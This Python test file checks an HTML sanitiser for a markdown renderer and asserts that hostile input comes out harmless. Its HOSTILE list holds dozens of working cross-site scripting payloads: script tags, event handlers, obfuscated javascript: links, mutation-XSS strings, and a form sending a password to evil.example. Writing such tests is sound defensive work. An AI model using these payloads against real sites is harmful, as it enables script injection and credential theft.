"""What may be shown of HTML of unknown origin."""

import re

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from portfolio.markdown.html.policy import MAX_DEPTH
from portfolio.markdown.html.sanitise import Sanitised, sanitise, sanitise_reporting
from portfolio.markdown.maths import mathml
from portfolio.markdown.options import Options
from portfolio.markdown.render import to_html
from portfolio.markdown.text import visible_text

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:image/png;base64,iVBORw0KGgo='>",
    "<img srcset='javascript:alert(1) 1x, a.png 2x'>",
    "<video poster='javascript:alert(1)' src='data:video/mp4,x' onplay=alert(1)></video>",
    "<iframe src='https://www.youtube-nocookie.com.evil.example/embed/x'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<input type=text autofocus onfocus=alert(1)>",
    "<style>body { display: none }</style>",
    "<p style='position: fixed; inset: 0'>x</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'><meta http-equiv=refresh content='0;url=x'><base href='x'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<select><option><script>alert(1)</script></select>",
    '<b a="\'><script>alert(1)</script>">x</b>',
]
HARMLESS = frozenset({"<img/src=x/onerror=alert(1)>"})  # the whole rest is the image's address
FORBIDDEN = frozenset(
    "script style svg iframe object embed form button textarea template link meta base noscript select title".split()
)


def assert_harmless(html):
    """Look at ``html`` as another parser sees it."""
    # Bare text may look like the name of a file, of which the parser warns.
    for tag in BeautifulSoup(f"<body>{html}", "lxml")(True):
        assert tag.name not in FORBIDDEN
        for name, value in tag.attrs.items():
            assert not name.startswith("on")
            assert name not in ("style", "srcdoc", "action", "formaction")
            if name in ("href", "src", "poster", "srcset", "cite"):
                scheme, colon, _ = re.sub(r"[\x00-\x20]", "", value).lower().partition(":")
                assert not colon or scheme not in ("javascript", "vbscript", "data")


PIECES = st.sampled_from(
    ["x", "<", ">", "&", "&lt;", '"', "'", "<!--", "-->", "<!", "]]>", "<![CDATA[", "\x00", "/", " a=b", "<?", "\n"]
    + [f"<{name}>" for name in "p div table tr td b i a math mi mtext svg style title ul li select template".split()]
    + [f"</{name}>" for name in "p div table tr td b i a math mi mtext svg style title ul li select template".split()]
    + ["<a href='javascript:x'>", "<p onclick=x>", "<td style='text-align:right'>", "<img src=x onerror=y>", '<b c"d>']
)


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless(html):
    assert_harmless(sanitise(html))


@pytest.mark.parametrize("html", HOSTILE)
def test_what_was_taken_out_is_named(html):
    text_only = html.startswith(("<!--", "<p title", "<noscript><p title"))  # a title is text and stays
    assert sanitise_reporting(html).removed or text_only or html in HARMLESS


@given(html=st.one_of(st.text(), st.lists(PIECES, max_size=20).map("".join)))
@settings(max_examples=600, deadline=None)
def test_sanitising_again_changes_nothing(html):
    once = sanitise(html)
    assert sanitise(once) == once
    assert_harmless(once)


def test_the_choices_of_a_menu_are_a_list():
    html = "<p>When<select onchange=x><option value=1>Neap<option selected>Spring</option></select>"
    assert sanitise(html) == "<p>When</p><ul><li>Neap</li><li>Spring</li></ul>"
    assert visible_text(html) == "When Neap Spring"


def test_what_is_said_to_those_without_scripts_is_shown():
    html = '<p>Play it:</p><script src="/play.js"></script><noscript><p><a href="/film">the film</a></p></noscript>'
    found = sanitise_reporting(html)
    assert found == Sanitised('<p>Play it:</p><p><a href="/film">the film</a></p>', ("<script>",))
    assert visible_text(html) == "Play it: the film"


def test_reports_by_name():
    html = "<p onclick=a>x<script>1</script><a href='javascript:b'>y</a><blink>z</blink></p><p onclick=a>"
    assert sanitise_reporting(html).removed == ("onclick on <p>", "<script>", "javascript: link", "<blink>")


@pytest.mark.parametrize(
    "html",
    [
        '<p class="lead" id="a" lang="en">A <em>b</em> <strong>c</strong> <del>d</del> <kbd>e</kbd></p>',
        '<h2 id="one">One</h2>',
        '<sup id="fnref:1"><a href="#fn:1" class="footnote" rel="footnote">1</a></sup>',
        '<div class="footnotes" role="doc-endnotes"><ol><li id="fn:1"><p>N</p></li></ol></div>',
        '<figure class="wide"><img src="/a.png" alt="A" width="10"><figcaption>B</figcaption></figure>',
        '<details open=""><summary>More</summary><p>x</p></details>',
        '<video controls="" src="/a.mp4"><track src="/a.vtt" kind="captions"></video>',
        '<audio controls=""><source src="https://sea.example/a.mp3" type="audio/mpeg"></audio>',
        '<div class="highlight"><pre class="highlight"><code><span class="k">x</span></code></pre></div>',
        '<a href="mailto:a@b.example">m</a> <a href="/x?a=1&amp;b=2#c">r</a> <a href="//h.example/">h</a>',
        "<dl><dt>a</dt><dd>b</dd></dl>",
        '<code class="tex" data-math="\\x">\\x</code>',
        '<ol start="3" type="a"><li value="4">a</li></ol>',
        '<abbr title="a &quot;b&quot;">c</abbr>',
    ],
)
def test_what_an_article_needs_stays(html):
    assert sanitise(html) == html
    assert sanitise_reporting(html).removed == ()


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ('<a name="low-water"></a>', '<a id="low-water"></a>'),
        ('<a id="ebb" name="low-water" href="#flood">x</a>', '<a id="ebb" href="#flood">x</a>'),
        ('<a name="">x</a>', "<a>x</a>"),
        ('<map name="plan"></map>', '<map name="plan"></map>'),
    ],
)
def test_old_anchors_are_ids(written, kept):
    assert sanitise_reporting(written) == Sanitised(kept, ())


def test_an_image_by_the_name_that_browsers_know_too_is_an_image():
    assert sanitise_reporting('<image src="/a.png" alt="b"></image> c') == Sanitised('<img src="/a.png" alt="b"> c', ())


def test_formulas_stay_whole():
    formula = mathml(r"\sum_{i=1}^n \frac{x_i}{\sqrt{2}} \begin{pmatrix} a & b \\ c & d \end{pmatrix}", display=True)
    assert sanitise(formula) == formula


def test_alignment_of_cells_survives_without_style():
    html = to_html("| a |\n|--:|\n| 1 |\n", Options())
    assert '<td align="right">1</td>' in sanitise(html)
    assert "style" not in sanitise(html)


def test_task_boxes_stay_and_cannot_be_ticked():
    html = sanitise('<input type="checkbox" checked><input type="checkbox" name="x" form="y">')
    assert html.count('disabled="disabled"') == 2
    assert "name" not in html


def test_new_tabs_do_not_reach_back():
    assert sanitise('<a href="https://a.example" target="_blank">a</a>').endswith('rel="noopener">a</a>')
    html = sanitise('<a href="https://a.example" target="_blank" rel="nofollow noopener">a</a>')
    assert 'rel="nofollow noopener"' in html


@pytest.mark.parametrize("html", ["<div>" * 60_000, "<b>" * 60_000, "<p><b id=1>x" * 20_000, '<i a"b><div>' * 20_000])
def test_depth_is_capped(html):
    clean = sanitise(html)
    deepest = depth = 0
    for tag in re.findall(r"</?[a-z]", clean):
        depth += -1 if "/" in tag else 1
        deepest = max(deepest, depth)
    assert deepest <= 2 * MAX_DEPTH


def test_text_of_deep_elements_is_kept():
    assert "deep" in sanitise("<div>" * 500 + "deep" + "</div>" * 500)


def test_roles_of_footnotes_stay_only_where_aria_allows_them():
    html = '<sup role="doc-noteref"><a role="doc-noteref" href="#n">1</a></sup><ol><li role="doc-endnote">n</li></ol>'
    assert sanitise(html) == '<sup><a role="doc-noteref" href="#n">1</a></sup><ol><li>n</li></ol>'


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("100%", ""),
        ("50%", ' width="50%"'),
        ("300px", ' width="300"'),
        ("300", ' width="300"'),
        ("12.5", ' width="12"'),
        ("auto", ""),
        ("-1", ""),
    ],
)
def test_sizes_of_pictures_are_whole_pixels_or_a_part_of_the_text(written: str, kept: str) -> None:
    assert sanitise(f'<img src="/a.png" alt="A" width="{written}">') == f'<img src="/a.png" alt="A"{kept}>'
